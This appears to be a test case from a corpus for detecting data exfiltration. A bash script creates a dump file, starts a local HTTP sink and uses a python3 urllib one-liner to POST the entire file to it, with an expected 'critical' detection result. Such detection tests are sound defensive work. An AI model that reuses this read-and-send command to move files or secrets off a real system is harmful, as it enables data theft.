#!/bin/bash
# B-py-urllib: python's urllib posts the dump.
# flow: python reads all of it and sends.
# tools: python3
# expect: sent counted port critical
. "$CORPUS/lib.sh"
mkdump
sink http
python3 -c 'import sys, urllib.request
urllib.request.urlopen(sys.argv[2], open(sys.argv[1], "rb").read())' "$D" "http://$SINK:$PORT/up"
sunk
